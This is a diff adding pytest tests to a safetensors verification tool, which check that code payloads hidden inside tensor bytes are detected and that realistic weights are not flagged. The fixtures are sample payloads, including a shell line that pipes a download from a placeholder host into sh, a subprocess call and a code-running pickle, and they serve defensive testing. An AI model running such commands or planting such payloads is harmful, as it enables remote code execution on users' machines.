@@ -792,3 +792,98 @@ def test_sarif_artifact_uris_of_absolute_and_relative_paths(tmp_path, capsys, mo
     assert code == 0
     [artifact] = json.loads(out)["runs"][0]["artifacts"]
     assert artifact["location"]["uri"] == "a%20model.safetensors"
+
+
+# Hidden payloads: where they sit, and none in ordinary weights -------------------------
+
+
+def _payloads(tmp_path: Path) -> dict:
+    """Other formats' files, as a tensor might carry them: a pickle that calls code, a PyTorch
+    zip archive (made by zipfile, as torch.save lays it out), an ELF executable (this Python's
+    own, when it is one), a shell script and a Python script without a #! line."""
+    import sys
+
+    archive = _zip(tmp_path / "ckpt.zip", "archive/data.pkl", "archive/version").read_bytes()
+    found = {
+        "a pickle program": PICKLE_EXEC,
+        "a zip archive holding pickles": archive,
+        "a script (#!/bin/sh)": b"#!/bin/sh\ncurl -s http://x.example/p | sh\n",
+        "a script (text that calls code": b"import subprocess\nsubprocess.run(['id'])\n" * 2,
+    }
+    with open(sys.executable, "rb") as fh:
+        head = fh.read(4096)
+    if head.startswith(b"\x7fELF"):
+        found["an ELF "] = head
+    return found
+
+
+def _weights(n: int, seed: int) -> dict:
+    import ml_dtypes
+
+    rng = np.random.default_rng(seed)
+    return {
+        "f32": rng.standard_normal(n).astype(np.float32) * 0.02,
+        "bf16": (rng.standard_normal(n) * 0.02).astype(ml_dtypes.bfloat16),
+    }
+
+
+@pytest.mark.parametrize("deep", [False, True], ids=["at-the-start", "deep-inside"])
+def test_payloads_in_tensors_are_found_where_they_sit(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], deep: bool
+) -> None:
+    # At a tensor's start: found by the quick look; 100,000 bytes into a
+    # float tensor: found when --values reads every byte, never before.
+    for what, payload in _payloads(tmp_path).items():
+        if deep and "text that calls code" in what:
+            continue  # text without a #! line counts at a tensor's start only
+        path = tmp_path / "m.safetensors"
+        w = _weights(1 << 16, 1)["f32"].copy()
+        at = 100_000 if deep else 0
+        w.view(np.uint8)[at : at + len(payload)] = np.frombuffer(payload, np.uint8)
+        fastst.numpy.save_file({"a.weight": np.ones(4, np.float32), "b.weight": w}, path)
+        data_start = 8 + struct.unpack("<Q", path.read_bytes()[:8])[0]
+        code, doc = run_json(["verify", "--json", "--values", str(path)], capsys)
+        (report,) = doc
+        (f,) = [f for f in report["findings"] if f["rule"] == "tensor-payload"]
+        assert f["message"].split(" hold ")[1].startswith(what), (what, f["message"])
+        assert (f["tensor"], f["offset"]) == ("b.weight", data_start + 16 + at)
+        assert f["verdict"] == "red-flag" and code == 1 and report["accepted"]
+        code, doc = run_json(["verify", "--json", str(path)], capsys)
+        rules = [f["rule"] for f in doc[0]["findings"]]
+        assert rules == ([] if deep else ["tensor-payload"]), (what, rules)
+
+
+def test_a_real_looking_model_holds_no_payload(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Random BF16 and F32 weights, integer and byte tensors, the metadata
+    # real LoRAs and checkpoints carry (JSON, hashes, a base64 thumbnail, a
+    # description with a usage example): no finding, quick look or full scan.
+    import base64
+    import hashlib
+
+    tensors: dict = {}
+    for i in range(4):
+        w = _weights(1 << 15, i)
+        tensors[f"model.layers.{i}.self_attn.q_proj.weight"] = w["bf16"].reshape(256, 128)
+        tensors[f"model.layers.{i}.mlp.up_proj.weight"] = w["f32"].reshape(128, 256)
+    tensors["model.embed_tokens.weight"] = _weights(1 << 16, 9)["bf16"].reshape(512, 128)
+    tensors["position_ids"] = np.arange(4096, dtype=np.int64)
+    rng = np.random.default_rng(5)
+    tensors["quant.weight_scale"] = rng.integers(0, 256, 1 << 16, dtype=np.uint8)
+    thumb = base64.b64encode(rng.integers(0, 256, 3000, dtype=np.uint8).tobytes()).decode()
+    metadata = {
+        "format": "pt",
+        "modelspec.title": "tiny",
+        "modelspec.thumbnail": "data:image/png;base64," + thumb,
+        "modelspec.description": "Load with `pipe.load_lora_weights(path)`; then model.eval().",
+        "ss_tag_frequency": json.dumps({"10_sks dog": {"sks": 10, "dog": 9}}),
+        "ss_network_module": "networks.lora",
+        "sshs_model_hash": hashlib.sha256(b"x").hexdigest(),
+        "ssmd_source": "https://civitai.com/models/12345?modelVersionId=678",
+    }
+    path = tmp_path / "model.safetensors"
+    fastst.numpy.save_file(tensors, path, metadata=metadata)
+    for args in ([], ["--values"]):
+        code, doc = run_json(["verify", "--json", *args, str(path)], capsys)
+        assert code == 0 and doc[0]["findings"] == [], doc[0]["findings"]
